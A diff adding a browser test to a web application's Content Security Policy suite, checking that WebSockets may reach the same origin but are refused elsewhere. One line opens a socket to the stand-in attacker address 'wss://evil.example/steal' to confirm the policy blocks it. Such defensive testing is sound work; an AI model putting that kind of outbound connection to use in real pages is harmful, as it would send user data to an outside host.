@@ -105,6 +105,31 @@ def test_every_page_renders_without_a_csp_violation(page, live_server, filled):
     assert page.errors == []
 
 
+def test_websockets_may_reach_this_site_only(page, live_server):
+    """connect-src 'self': the benchmark stream's WebSocket (same origin) may connect, any
+    other host is refused. (live_server speaks WSGI, so the same-origin handshake itself fails
+    with a 404; what matters is that the policy lets it try.)"""
+    page.add_init_script(RECORD_VIOLATIONS)
+    log_in(page, live_server.url, username="carol")
+    closed = page.evaluate(
+        """() => new Promise(resolve => {
+            const url = location.origin.replace(/^http/, "ws") + "/api/v1/benchmarks/x/stream";
+            const socket = new WebSocket(url);
+            socket.onclose = () => resolve(url);
+        })"""
+    )
+    assert closed.startswith("ws://") and page.evaluate("window.__csp") == []
+    violations = page.evaluate(
+        """() => new Promise(resolve => {
+            const done = () => resolve(window.__csp);
+            document.addEventListener("securitypolicyviolation", () => setTimeout(done, 0));
+            setTimeout(done, 3000);
+            try { new WebSocket("wss://evil.example/steal"); } catch (e) {}
+        })"""
+    )
+    assert violations == ["connect-src blocked wss://evil.example/steal"]
+
+
 def test_htmx_and_its_indicator_style_work_under_the_policy(page, live_server, filled):
     base = live_server.url
     page.add_init_script(RECORD_VIOLATIONS)
